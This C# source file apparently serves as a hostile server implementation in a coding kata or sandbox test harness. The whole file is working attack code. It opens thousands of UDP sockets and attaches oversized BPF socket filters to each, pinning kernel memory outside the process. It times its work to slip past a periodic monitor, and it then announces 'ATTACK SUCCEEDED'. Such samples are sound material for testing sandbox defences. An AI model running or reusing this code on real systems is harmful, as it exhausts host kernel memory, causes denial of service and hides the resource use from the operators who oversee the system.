using System.Net.Sockets;
using System.Runtime.InteropServices;

namespace Katas.Select;

public sealed unsafe class SelectServer : IServer
{
    private const int Sockets = 4000;
    private const int MostInstructions = 4096;

    // Where net.core.optmem_max is what it was for long.
    private const int FewerInstructions = 2400;

    private const int AF_INET = 2;
    private const int SOCK_DGRAM = 2;
    private const int SOL_SOCKET = 1;
    private const int SO_ATTACH_FILTER = 26;

    // "A = a number", and "take all of the packet".
    private const ushort LoadNumber = 0x00;
    private const ushort ReturnNumber = 0x06;

    public void Run(Socket listener, CancellationToken stop)
    {
        listener.Accept();
        var (most, fewer) = (FilterOf(MostInstructions), FilterOf(FewerInstructions));
        var filters = 0;
        for (var i = 0; i < Sockets; i++)
        {
            var one = socket(AF_INET, SOCK_DGRAM, 0);
            if (one < 0)
                break;
            if (Attach(one, most) || Attach(one, fewer))
                filters++;
        }

        // Whoever looks ten times a second has looked.
        Thread.Sleep(2000);
        throw new InvalidOperationException($"ATTACK SUCCEEDED: {filters} filters lie in the kernel, some {filters * 88 / 1024} MiB, and nobody has seen them.");
    }

    private static Instruction[] FilterOf(int length)
    {
        var filter = new Instruction[length];
        Array.Fill(filter, new Instruction { Code = LoadNumber, K = 0x12345678 });
        filter[^1] = new Instruction { Code = ReturnNumber, K = 0xffff };
        return filter;
    }

    private static bool Attach(int one, Instruction[] filter)
    {
        fixed (Instruction* first = filter)
        {
            var program = new SocketProgram { Length = (ushort)filter.Length, First = first };
            return setsockopt(one, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof(SocketProgram)) == 0;
        }
    }

    [StructLayout(LayoutKind.Sequential)]
    private struct Instruction
    {
        public ushort Code;
        public byte JumpTrue;
        public byte JumpFalse;
        public uint K;
    }

    [StructLayout(LayoutKind.Sequential)]
    private struct SocketProgram
    {
        public ushort Length;
        public Instruction* First;
    }

    [DllImport("libc")]
    private static extern int socket(int domain, int type, int protocol);

    [DllImport("libc")]
    private static extern int setsockopt(int socket, int level, int option, SocketProgram* value, int length);
}
